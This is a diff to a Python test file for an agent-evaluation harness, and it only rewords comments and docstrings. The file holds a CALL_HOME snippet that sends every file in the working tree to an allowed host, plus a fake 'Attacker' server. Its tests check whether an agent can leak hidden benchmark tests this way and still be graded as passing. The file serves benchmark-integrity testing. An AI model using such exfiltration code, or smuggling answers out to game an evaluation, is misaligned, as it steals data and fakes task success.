@@ -1,4 +1,4 @@
-"""An agent that was given a door, through the command line: what it gets by it, and what is on record."""
+"""An agent with an allowed host, through the command line: what it gains by that, and what is recorded."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ SANDBOXES = ["bubblewrap", "docker"]
 HOST = "host.internal"
 HIDDEN = "answer-that-only-the-bench-knows"
 LIMITS = {"memory_mb": {"guaranteed": 64, "limit": 256}, "disk_mb": 64, "processes": 64}
-# Whatever lies in the tree, to whoever waits behind the door.
+# Sends every file of the tree to the allowed host.
 CALL_HOME = """import socket
 try:
     with socket.create_connection(("%s", %d), 9) as made:
@@ -28,7 +28,7 @@ except OSError: pass
 
 
 class Attacker:
-    """Somebody behind the door, who keeps what he is told and says `solved`."""
+    """A server at the allowed host that stores what it receives and answers `solved`."""
 
     def __init__(self) -> None:
         self.heard = bytearray()
@@ -70,7 +70,7 @@ def planting(attacker: Attacker) -> str:
 def test_carrying_the_hidden_tests_out_by_the_agents_allowed_host(
     kind: str, attacker: Attacker, author: Author, steelyard: Steelyard
 ) -> None:
-    """The change calls home when it is graded. The door was the agent's: on the bench it is not there."""
+    """The change calls home when it is graded. Only the agent may reach the host: the bench may not."""
     environment = {"network": [f"{HOST}:{attacker.port}"], **(in_docker() if kind == "docker" else {})}
     said = steelyard("run", hiding(author, environment), "--agent", planting(attacker), "--json")
     assert said.line["verdict"] == "pass", said
@@ -93,7 +93,7 @@ def test_carrying_the_hidden_tests_out_by_an_allowed_host_of_the_checks(
 def test_having_the_work_done_by_an_allowed_host(
     attacker: Attacker, author: Author, steelyard: Steelyard
 ) -> None:
-    """A pass that an accomplice may have earned is no pass for whoever asks for none of that."""
+    """`--require-assurance network=none` rejects a pass that an accomplice may have earned."""
     contract = hiding(author, {"network": [f"{HOST}:{attacker.port}"]})
     ask = f"/usr/bin/python3 -I -c 'import socket; print(socket.create_connection((\"{HOST}\", {attacker.port})).recv(9))'"
     said = steelyard(
